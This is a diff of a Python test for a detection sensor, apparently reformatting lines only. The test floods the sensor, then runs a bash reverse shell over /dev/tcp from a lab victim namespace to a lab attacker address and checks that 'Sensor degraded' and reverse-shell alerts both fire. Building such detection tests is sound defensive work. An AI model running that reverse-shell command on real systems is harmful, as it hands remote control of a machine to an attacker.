@@ -57,8 +57,12 @@ def test_unprivileged_flood_raises_sensor_degraded_and_a_shell_after_it_still_al
         with ThreadPoolExecutor(max_workers=2) as pool:
             ops = sum(f.result() for f in [pool.submit(flood, until) for _ in range(2)])
         assert ops > 0
-        lab.run(lab.victim_ns, ["bash", "-c", f"bash -i >& /dev/tcp/{lab.attacker_ip4}/{shell_port} 0>&1; exit 0"],
-                timeout=20, env={"HOME": str(home)})
+        lab.run(
+            lab.victim_ns,
+            ["bash", "-c", f"bash -i >& /dev/tcp/{lab.attacker_ip4}/{shell_port} 0>&1; exit 0"],
+            timeout=20,
+            env={"HOME": str(home)},
+        )
         assert b"cw-42" in listener.wait(timeout=20), "the reverse shell itself did not run"
 
         def alerts() -> list[dict]:
@@ -66,8 +70,9 @@ def test_unprivileged_flood_raises_sensor_degraded_and_a_shell_after_it_still_al
 
         def both() -> bool:
             got = alerts()
-            return (any(a["rule"]["name"] == "Sensor degraded" for a in got)
-                    and any(a.get("destination", {}).get("port") == shell_port for a in got))
+            return any(a["rule"]["name"] == "Sensor degraded" for a in got) and any(
+                a.get("destination", {}).get("port") == shell_port for a in got
+            )
 
         daemon.wait_until(both, "a Sensor degraded alert and the reverse shell's alert", 60.0)
         degraded = [a for a in alerts() if a["rule"]["name"] == "Sensor degraded"]
